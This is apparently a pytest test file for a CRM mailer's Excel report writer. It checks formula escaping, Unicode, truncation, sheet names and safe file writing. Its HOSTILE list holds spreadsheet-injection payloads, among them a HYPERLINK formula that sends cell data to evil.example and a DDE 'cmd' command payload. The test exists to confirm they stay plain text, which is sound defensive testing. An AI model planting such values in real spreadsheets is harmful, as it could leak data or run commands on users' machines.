from __future__ import annotations

import re
import zipfile
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from python_calamine import CalamineWorkbook

from crm_mailer.model.errors import CannotWrite, NotPossible
from crm_mailer.reporting import workbook
from crm_mailer.reporting.workbook import Chart, Column, Kind, Sheet, Toned

SHANGHAI = ZoneInfo("Asia/Shanghai")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "=1+1", "+1+1", "-2+3", "@SUM(A1)",
    "\t=1+1", "\r=1+1", " =1+1", "'=1+1", "＝1+1", '=cmd|" /C calc"!A0', "{=1+1}",
    "http://evil.example/", "mailto:a@b.example", "internal:Sheet1!A1", "1234567890123456789",
]  # fmt: skip


def sheet(*rows: tuple[object, ...], **more: Any) -> Sheet:
    columns = more.pop("columns", (Column(title="words", kind=Kind.WORDS),))
    return Sheet(name=more.pop("name", "Words"), columns=columns, rows=rows, **more)


def write(path: Path, *sheets: Sheet, is_forced: bool = False) -> Path:
    workbook.write(path, sheets, place=SHANGHAI, title="Report", is_forced=is_forced)
    return path


def cells(path: Path, name: str = "Words") -> list[list[Any]]:
    return CalamineWorkbook.from_path(str(path)).get_sheet_by_name(name).to_python()


def parts(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name).decode("utf-8", "replace") for name in archive.namelist()}


def test_what_looks_like_a_formula_stays_the_words_that_were_written(tmp_path: Path) -> None:
    path = write(tmp_path / "a.xlsx", sheet(*((text,) for text in HOSTILE)))

    read = [row[0] for row in cells(path)[1:]]
    page = parts(path)["xl/worksheets/sheet1.xml"]

    assert [text.replace("\r", "\n") for text in HOSTILE] == [
        str(text).replace("\r", "\n").replace("_x000D_", "\n") for text in read
    ]
    assert "<f>" not in page
    assert "<hyperlink" not in page
    assert "quotePrefix" in parts(path)["xl/styles.xml"]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Мария 😀 中文", "Мария 😀 中文"),
        ("a\x00b\x0bc", "a�b�c"),
        ("\ud800", "�"),
        ("<b>&amp;</b>", "<b>&amp;</b>"),
        ("two\nlines", "two\nlines"),
    ],
)
def test_every_letter_that_a_customer_writes_can_be_written(
    tmp_path: Path, text: str, shown: str
) -> None:
    assert cells(write(tmp_path / "a.xlsx", sheet((text,))))[1] == [shown]


@pytest.mark.parametrize("letter", ["a", "😀", "中"])
def test_a_text_longer_than_a_cell_is_cut_and_not_lost(tmp_path: Path, letter: str) -> None:
    [read] = cells(write(tmp_path / "a.xlsx", sheet((letter * 40_000,))))[1]

    assert read.startswith(letter * 16_000)
    assert read.endswith("…")
    assert len(read.encode("utf-16-le")) // 2 <= 32_767


def test_figures_are_figures_and_days_are_days(tmp_path: Path) -> None:
    columns = tuple(Column(title=kind.value, kind=kind) for kind in Kind)
    at = datetime(2026, 11, 2, 20, 30, tzinfo=UTC)
    row = ("text", "words", 1200, 0.25, 3.5, 12.99, at, at.date())

    path = write(tmp_path / "a.xlsx", sheet(row, columns=columns))

    assert cells(path)[1] == [
        "text", "words", 1200, 0.25, 3.5, 12.99, datetime.fromisoformat("2026-11-03T04:30"),
        at.date(),
    ]  # fmt: skip


def test_the_header_stays_in_sight_and_can_be_filtered(tmp_path: Path) -> None:
    page = parts(write(tmp_path / "a.xlsx", sheet(("x",), ("y",))))["xl/worksheets/sheet1.xml"]

    assert re.search(r'<pane ySplit="1"[^>]* state="frozen"', page)
    assert '<autoFilter ref="A1:A3"' in page


def test_an_empty_table_says_so_and_has_no_chart(tmp_path: Path) -> None:
    path = write(
        tmp_path / "a.xlsx", sheet(empty="nothing yet", chart=Chart(title="c", columns=(0,)))
    )

    assert cells(path) == [["words"], [""], ["nothing yet"]]
    assert not [name for name in parts(path) if "chart" in name]


def test_a_chart_shows_the_first_rows(tmp_path: Path) -> None:
    columns = (Column(title="reason"), Column(title="number", kind=Kind.COUNT))
    rows = [(f"reason {number}", number) for number in range(40)]

    path = write(
        tmp_path / "a.xlsx",
        sheet(*rows, columns=columns, name="By 'reason'", chart=Chart(title="t", columns=(1,))),
    )

    assert "$B$2:$B$16" in parts(path)["xl/charts/chart1.xml"]


def test_names_that_excel_refuses_are_mended(tmp_path: Path) -> None:
    names = ["a/b:c*d?[e]", "x" * 60, "x" * 60, "", "A B C D  E"]

    path = write(tmp_path / "a.xlsx", *(sheet(("x",), name=name) for name in names))

    read = CalamineWorkbook.from_path(str(path)).sheet_names
    assert len({name.lower() for name in read}) == 5
    assert all(0 < len(name) <= 31 and not re.search(r"[\[\]:*?/\\]", name) for name in read)


def test_a_file_that_is_there_is_not_replaced_unless_wanted(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    path.write_text("mine")

    with pytest.raises(CannotWrite, match="is there already"):
        write(path, sheet(("x",)))

    assert path.read_text() == "mine"
    write(path, sheet(("x",)), is_forced=True)
    assert cells(path)[1] == ["x"]


def test_a_file_that_came_in_between_is_not_replaced(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"

    def rows() -> Iterator[tuple[str]]:
        path.write_text("theirs")
        yield ("x",)

    late = Sheet(name="Words", columns=(Column(title="words"),), rows=rows())
    with pytest.raises(CannotWrite):
        write(path, late)

    assert path.read_text() == "theirs"


def test_what_breaks_half_way_leaves_no_file(tmp_path: Path) -> None:
    def rows() -> Iterator[tuple[str]]:
        yield ("x",)
        raise ZeroDivisionError

    broken = Sheet(name="Words", columns=(Column(title="words"),), rows=rows())
    with pytest.raises(ZeroDivisionError):
        write(tmp_path / "a.xlsx", broken)

    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("name", ["report.csv", "report", "report.xls"])
def test_only_excel_files_are_written(tmp_path: Path, name: str) -> None:
    with pytest.raises(NotPossible) as error:
        write(tmp_path / name, sheet(("x",)))

    assert "report.xlsx" in error.value.hint


def test_a_folder_that_is_not_there_is_named(tmp_path: Path) -> None:
    with pytest.raises(CannotWrite, match="nowhere"):
        write(tmp_path / "nowhere" / "a.xlsx", sheet(("x",)))


def test_a_workbook_names_no_folder_of_ours(tmp_path: Path) -> None:
    path = write(tmp_path / "a.xlsx", sheet((Toned("bad", "bad"),)))

    assert str(tmp_path) not in "".join(parts(path).values())
